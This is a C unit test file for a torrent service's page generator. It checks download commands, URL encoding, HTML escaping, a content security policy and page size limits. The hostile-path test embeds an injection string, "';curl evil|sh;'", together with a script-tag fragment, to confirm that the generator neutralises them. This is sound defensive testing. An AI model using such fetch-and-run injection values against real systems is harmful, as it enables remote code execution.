/* SPDX-License-Identifier: ISC */
#include <openssl/evp.h>
#include <openssl/sha.h>

#include "pkgtorrentd/front/http/page.h"
#include "tests/lib/test.h"
#include "tests/lib/text.h"

#define BASE	"http://m.example:8080"
#define URL	BASE "/yum/torrent_service/"
#define COMMAND	"aria2c --stream-piece-selector=random --split=1 " \
    "--seed-time=5 '"

static struct buf	 out;
static const char	*why;
static const bool	 kinds[] = { false, true };	/* text, HTML */

/* The page as text, or NULL. */
static const char *
make(const struct page *page)
{
	int	status;

	out.len = 0;
	status = page_make(&out, page, &why);
	ATF_CHECK_EQ_MSG(status, 0, "%d %s", status, why);
	ATF_REQUIRE_EQ(buf_add(&out, "", 1), 0);
	ATF_CHECK(strlen((char *)out.data) == --out.len);
	return (char *)out.data;
}

static const char *
make_of(const char *path, bool html)
{
	return make(&(struct page){ BASE, str_of("yum"), "torrent_service",
	    str_of(path), true, html });
}

static void
check_has(const char *page, const char *text)
{
	ATF_CHECK_MSG(strstr(page, text) != NULL, "no %s in %s", text, page);
}

static void
check_has_not(const char *page, const char *text)
{
	ATF_CHECK_MSG(strstr(page, text) == NULL, "%s in %s", text, page);
}

TEST(page__text)
{
	const char	*page = make_of("", false);

	check_has(page, "Torrents of m.example:8080\n");
	check_has(page, "\n  " COMMAND URL "simple/PATH'\n");
	check_has(page, "\n  aria2c --seed-time=0 '" URL "meta4/PATH'\n");
	check_has(page, "\n  curl -G --data-urlencode 'path=/PATH' '" URL
	    "'\n");
	check_has_not(page, "<");
	page = make_of("/pub/a.iso", false);
	check_has(page, "\n  " COMMAND URL "simple/pub/a.iso'\n");
	check_has(page, "\n  curl -OJ '" URL "simple/pub/a.iso'\n");
	check_has(page, "\n  aria2c --seed-time=0 '" URL "meta4/pub/a.iso'\n");
	check_has_not(page, "/PATH'");
	check_has_not(page, "$");
}

TEST(page__html)
{
	const char	*page = make_of("", true);

	check_has(page, "<title>Torrents of m.example:8080</title>");
	check_has(page, "<code>" COMMAND URL "simple/PATH'</code>");
	check_has(page, " value=\"\" ");
	check_has_not(page, "href=");
	page = make_of("/pub/a.iso", true);
	check_has(page, "<a href=\"" URL "simple/pub/a.iso\">Torrent</a>");
	check_has(page, "<a href=\"" URL "meta4/pub/a.iso\">Metalink</a>");
	check_has(page, " value=\"/pub/a.iso\" ");
	check_has(page, "<code>" COMMAND URL "simple/pub/a.iso'</code>");
	check_has_not(page, "/PATH'");
	check_has_not(page, "$");
	/* No attribute for which the policy would need a word. */
	check_has_not(page, "style=");
	check_has_not(page, "<script");
}

TEST(page__tracker)
{
	struct page	page = { BASE, str_of("yum"), "torrent_service",
	    str_of(""), true, false };

	EACH(html, kinds) {
		page.html = *html;
		page.tracked = true;
		check_has(make(&page), "name a tracker");
		page.tracked = false;
		check_has(make(&page), "name no tracker");
	}
}

/* A URL has no byte that a shell, a terminal or a browser could take for
   something else. */
TEST(page__hostile_path)
{
	static const char	path[] = "/';curl evil|sh;'\"><script>$(x)`&\\"
	    "*?[a]#\x1b\x80\xc2\x9b\xe2\x80\xae\xc3\xa9";
	static const char	encoded[] =
	    "/%27%3Bcurl%20evil%7Csh%3B%27%22%3E%3Cscript%3E%24%28x%29%60"
	    "%26%5C%2A%3F%5Ba%5D%23%1B%80%C2%9B%E2%80%AE%C3%A9";
	const char		*page = make_of(path, true);

	check_has(page, fmt("href=\"" URL "simple%s\"", encoded));
	check_has(page, fmt("<code>" COMMAND URL "simple%s'</code>", encoded));
	check_has(page, " value=\"/&#39;;curl evil|sh;&#39;&quot;&gt;"
	    "&lt;script&gt;$(x)`&amp;\\*?[a]#\xef\xbf\xbd\xef\xbf\xbd"
	    "\xef\xbf\xbd\xe2\x80\xae\xc3\xa9\" ");
	check_has_not(page, "<script");
	check_has_not(page, "evil|sh;'");
	page = make_of(path, false);
	check_has(page, fmt("\n  " COMMAND URL "simple%s'\n", encoded));
	check_has(page, fmt("\n  curl -OJ '" URL "simple%s'\n", encoded));
	check_has(page, fmt("\n  aria2c --seed-time=0 '" URL "meta4%s'\n",
	    encoded));
	check_has_not(page, "evil|");
}

/* So have the component above the service, the service and base-url. */
TEST(page__hostile_names)
{
	struct page	page = { "https://[::1]:8080/a%20b/'&()$;<",
	    str_of("';x;\"<"), "torrent 'service", str_of("/a"), true, true };
	const char	*url = "https://[::1]:8080/a%20b/%27%26%28%29%24%3B%3C/"
	    "%27%3Bx%3B%22%3C/torrent%20%27service/";

	check_has(make(&page), fmt("href=\"%ssimple/a\"", url));
	check_has(make(&page), "Torrents of [::1]:8080<");
	page.html = false;
	check_has(make(&page), fmt("aria2c --seed-time=0 '%smeta4/a'\n", url));
}

/* The policy has the hash of the style that is in the page. */
TEST(page__policy)
{
	const char	*page = make_of("/a", true), *from, *to;
	char		 policy[PAGE_POLICY_MAX], hash[64];
	uint8_t		 digest[SHA256_DIGEST_LENGTH];

	from = strstr(page, "<style>");
	to = strstr(page, "</style>");
	ATF_REQUIRE(from != NULL && to != NULL);
	from += strlen("<style>");
	check_has_not(to + 1, "<style");
	SHA256((const uint8_t *)from, (size_t)(to - from), digest);
	EVP_EncodeBlock((uint8_t *)hash, digest, sizeof(digest));
	page_policy(policy);
	ATF_CHECK_STREQ(policy, fmt("default-src 'none'; style-src "
	    "'sha256-%s'; form-action 'self'; frame-ancestors 'none'; "
	    "base-uri 'none'", hash));
}

/* Up to PAGE_MAX, and not a byte more. */
TEST(page__limit)
{
	static char	path[PAGE_MAX + 1];
	struct page	page = { BASE, str_of("yum"), "torrent_service",
	    { path, 1 }, true, false };
	size_t		most;

	memset(path, '"', sizeof(path));
	path[0] = '/';
	EACH(html, kinds) {
		page.html = *html;
		why = NULL;
		out.len = 0;
		for (page.path.len = 1; page_make(&out, &page, &why) == 0;
		    page.path.len++) {
			ATF_CHECK(out.len <= PAGE_MAX);
			most = out.len;
			out.len = 0;
		}
		ATF_CHECK(most > PAGE_MAX - 24);
		ATF_CHECK_EQ(page_make(&out, &page, &why), 414);
		ATF_CHECK(why != NULL && strstr(why, "16 KiB") != NULL);
		ATF_CHECK_EQ(out.len, 0);
		/* A path as mirrors have it is far from that. */
		ATF_CHECK_MSG(page.path.len > 350, "%zu", page.path.len);
	}
}

/* The length of a page of text with a path and a name of so many bytes; 0: it
   is refused. */
static size_t
text_len(size_t path_len, size_t name_len)
{
	static char	bytes[PAGE_MAX];
	struct page	page = { BASE, { bytes, name_len }, "torrent_service",
	    { bytes, path_len }, true, false };

	memset(bytes, 'a', sizeof(bytes));
	out.len = 0;
	return page_make(&out, &page, &why) == 0 ? out.len : 0;
}

TEST(page__limit_is_exact)
{
	size_t	first = text_len(1, 1), by_path = text_len(2, 1) - first;
	size_t	by_name = text_len(1, 2) - first, more, names;
	bool	met[2] = { false, false };

	for (more = 0; more < 2; more++)
		for (names = 0; names < by_path && !met[more]; names++) {
			size_t	rest = PAGE_MAX + more - first -
			    names * by_name;

			if (rest % by_path != 0)
				continue;
			met[more] = true;
			ATF_CHECK_EQ(text_len(1 + rest / by_path, 1 + names),
			    more == 0 ? PAGE_MAX : 0);
		}
	ATF_CHECK(met[0] && met[1]);
}
